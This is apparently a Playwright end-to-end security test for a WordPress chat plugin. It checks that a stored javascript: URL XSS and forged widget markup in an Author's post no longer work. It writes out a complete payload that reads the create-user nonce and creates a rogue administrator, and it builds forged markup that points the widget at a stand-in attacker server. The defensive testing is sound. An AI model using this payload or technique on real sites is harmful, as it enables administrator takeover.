/**
 * Issue 11, findings 1 and 2, as the outside review ran them: a real WordPress 6.5 with the built
 * plugin zip, the real service and headless Chromium.
 *
 * 1. A visitor starts a conversation with `page.url = "javascript:…"` and applies; an
 *    administrator opens the lead and clicks the page link. The payload would read the
 *    create-user nonce and make a new administrator: no script may run, no user may appear.
 * 2. An Author (no unfiltered_html) publishes a post whose Custom HTML block copies the chat
 *    block's class and data attributes, pointing the widget at another origin. Hovering and
 *    clicking it must load nothing from that origin; the real block on the same page still works.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { activatePlugin, connectPlugin, createChatPage, unpackPluginZip } from '../../scripts/wordpress/plugin-setup';
import { applyThroughChat, PRIORITY_APPLICANT } from '../e2e/support/applicant';
import { launchBrowser, logIn, newTab, screenshot } from '../e2e/support/browser';
import { ChatWidget } from '../e2e/support/chat-widget';
import { startE2eStack, type E2eStack } from '../e2e/support/e2e-stack';
import { restAsUser } from '../e2e/support/wordpress-rest';

jest.setTimeout(240_000);

const SUITE = 'security-browser';
const AUTHOR = { login: 'author', password: 'author-password-1', email: 'author@shop.test' };
/** What the review's payload did: read the create-user nonce, then create an administrator. */
const CREATE_ADMIN =
  "javascript:window.__pwned=1;fetch('/wp-admin/user-new.php').then(r=>r.text()).then(t=>{const n=(t.match(/name=\"_wpnonce_create-user\" value=\"([^\"]+)\"/)||[])[1];" +
  "return fetch('/wp-admin/user-new.php',{method:'POST',body:new URLSearchParams({action:'createuser','_wpnonce_create-user':n,user_login:'pwned',email:'pwned@evil.example',pass1:'Pwned-pass-123!',pass2:'Pwned-pass-123!',pw_weak:'on',role:'administrator'})})})";

let stack: E2eStack;
let browser: Browser;
let agentId = '';

/** Stands in for the attacker's server: records every request and serves a script that flags itself. */
let evil: { origin: string; requests: string[]; close(): Promise<void> };
function startEvilServer(): Promise<typeof evil> {
  const requests: string[] = [];
  const server = http.createServer((request, response) => {
    requests.push(`${request.method} ${request.url}`);
    response.writeHead(200, { 'Content-Type': 'text/javascript', 'Access-Control-Allow-Origin': '*' });
    response.end('window.__pwned = 1;');
  });
  return new Promise((resolve) =>
    server.listen(0, '127.0.0.1', () =>
      resolve({
        origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
        requests,
        close: () => new Promise<void>((done) => server.close(() => done())),
      }),
    ),
  );
}

const userExists = async (login: string) => (await stack.wordpress.php(`echo username_exists( '${login}' ) ? 'yes' : 'no';`)).trim() === 'yes';
const pwned = (page: Page) => page.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned ?? null);

beforeAll(async () => {
  [stack, browser, evil] = await Promise.all([startE2eStack(SUITE), launchBrowser(), startEvilServer()]);
  unpackPluginZip(stack.wordpress, stack.zip);
  await activatePlugin(stack.wordpress);
  await connectPlugin(stack.wordpress, stack.service);
  await stack.wordpress.createUser({ ...AUTHOR, role: 'author' });
  agentId = stack.agentId;
});

afterAll(async () => {
  await browser?.close();
  await evil?.close();
  await stack?.stop();
});

test('a visitor’s javascript: page URL never runs in wp-admin when an administrator opens and clicks it', async () => {
  const page = await createChatPage(stack.wordpress, { agentId, title: 'Partner program', attributes: { displayMode: 'inline' } });
  const visitor = await newTab(browser);
  // The attack: the conversation starts with a script URL as the page (and referrer).
  let boundary = 'accepted';
  // The forged start costs an extra round trip; the visitor types only once it has been answered.
  let markStartAnswered = () => {};
  const startAnswered = new Promise<void>((resolve) => (markStartAnswered = resolve));
  await visitor.page.route('**/v1/agents/*/conversations', async (route) => {
    const request = route.request();
    if (request.method() !== 'POST') return route.continue();
    const body = JSON.parse(request.postData() ?? '{}');
    const forged = await route.fetch({ postData: JSON.stringify({ ...body, page: { ...body.page, url: CREATE_ADMIN, referrer: CREATE_ADMIN } }) });
    if (forged.ok()) {
      await route.fulfill({ response: forged });
      return markStartAnswered();
    }
    // The service refused it at its boundary (also a pass); apply anyway so the lead screen is checked too.
    boundary = `refused with ${forged.status()}`;
    await route.continue();
    return markStartAnswered();
  });
  await visitor.page.goto(page.url);
  const chat = new ChatWidget(visitor.page);
  await chat.open();
  await startAnswered;
  await applyThroughChat(chat, { ...PRIORITY_APPLICANT, email: 'mallory@example.com' }, { mailLog: stack.wordpress.mailLog });
  await visitor.context.close();

  const leads = await stack.service.signed<{ items?: Array<{ id: string; email: string | null }>; leads?: Array<{ id: string; email: string | null }> }>('GET', '/v1/leads', { capabilities: ['aa_review_leads'] });
  const lead = (leads.body.items ?? leads.body.leads ?? []).find((item) => item.email === 'mallory@example.com');
  expect(lead).toBeDefined();

  const admin = await newTab(browser);
  await logIn(admin.page, stack.wordpress.url, stack.wordpress.adminLogin, stack.wordpress.adminPassword);
  await admin.page.goto(`${stack.wordpress.url}/wp-admin/admin.php?page=affiliate-agent#/leads/${encodeURIComponent(lead!.id)}`);
  await admin.page.getByRole('heading', { name: 'Source' }).waitFor();
  await screenshot(admin.page, SUITE, 'lead-source', { fullPage: true });

  const scriptLinks = await admin.page.locator('a[href]').evaluateAll((links) =>
    links.map((link) => link.getAttribute('href') ?? '').filter((href) => /^\s*(javascript|data|vbscript):/i.test(href)),
  );
  expect(scriptLinks).toEqual([]);
  const shown = admin.page.getByText(CREATE_ADMIN, { exact: true });
  // The service drops a non-http(s) page URL while still starting the chat (conversation-types): nothing to show.
  if (boundary === 'accepted' && (await shown.count()) === 0) boundary = 'dropped (conversation started without it)';
  if (boundary === 'accepted') {
    // Stored as sent: shown as text, and clicking the text does nothing.
    await expect(shown.first().evaluate((node) => node.closest('a'))).resolves.toBeNull();
    await shown.first().click();
  } else {
    await expect(shown.count()).resolves.toBe(0);
  }
  await admin.page.waitForTimeout(1500); // long enough for the payload's two requests
  expect(await pwned(admin.page)).toBeNull();
  expect(await userExists('pwned')).toBe(false);
  console.log(`javascript: page URL at the service boundary: ${boundary}; the lead screen linked nothing and ran nothing`);
  await admin.context.close();
});

test('forged launcher markup in an Author’s Custom HTML block loads no script from the forged URL', async () => {
  const author = await newTab(browser);
  await logIn(author.page, stack.wordpress.url, AUTHOR.login, AUTHOR.password);
  const forgedUrl = `${evil.origin}/widget.js`;
  const forged =
    // The first version's markup, as kses keeps it…
    `<div class="wp-block-affiliate-agent-chat is-floating is-position-bottom-left" data-aa-chat data-agent-id="${agentId}" data-mode="floating" data-position="bottom-left" ` +
    `data-session-url="${evil.origin}/session" data-widget-url="${forgedUrl}" data-config="{}"><button type="button" class="wp-block-affiliate-agent-chat__bubble" data-aa-open aria-label="Forged chat">Chat</button></div>` +
    // …and the current one with a guessed instance id.
    `<div class="wp-block-affiliate-agent-chat is-inline" data-aa-instance="aa-chat-preview" data-widget-url="${forgedUrl}"><button type="button" data-aa-open aria-label="Forged inline chat">Chat</button></div>`;
  const content = `<!-- wp:html -->\n${forged}\n<!-- /wp:html -->\n<!-- wp:affiliate-agent/chat {"agentId":"${agentId}"} /-->`;
  const created = await restAsUser<{ id: number; link: string }>(author.context, stack.wordpress.url, 'POST', '/wp/v2/posts', { title: 'My favourite tools', content, status: 'publish' });
  expect(created.status).toBe(201);
  // kses (the Author has no unfiltered_html) keeps the forged attributes: the attack is real.
  const stored = await stack.wordpress.php(`echo get_post_field( 'post_content', ${created.body.id} );`);
  expect(stored).toContain(`data-widget-url="${forgedUrl}"`);
  await author.context.close();

  const visitor = await newTab(browser);
  const requested: string[] = [];
  visitor.page.on('request', (request) => requested.push(request.url()));
  await visitor.page.goto(created.body.link);
  for (const name of ['Forged chat', 'Forged inline chat']) {
    const button = visitor.page.getByRole('button', { name });
    await button.hover();
    await button.click();
  }
  await visitor.page.waitForTimeout(1500);
  await screenshot(visitor.page, SUITE, 'forged-markup');
  expect(requested.filter((url) => url.startsWith(evil.origin))).toEqual([]);
  expect(evil.requests).toEqual([]);
  expect(await pwned(visitor.page)).toBeNull();
  expect(requested.some((url) => url.includes('/widget.js'))).toBe(false);

  // The real block on the same page still opens, from the plugin's own widget file.
  await visitor.page.getByRole('button', { name: 'Open chat' }).click();
  await visitor.page.locator('.wp-block-affiliate-agent-chat.is-ready').waitFor();
  const widgetRequests = requested.filter((url) => url.includes('/widget.js'));
  expect(widgetRequests).toHaveLength(1);
  expect(widgetRequests[0].startsWith(`${stack.wordpress.url}/wp-content/plugins/affiliate-agent/`)).toBe(true);
  expect(evil.requests).toEqual([]);
  await visitor.context.close();
});
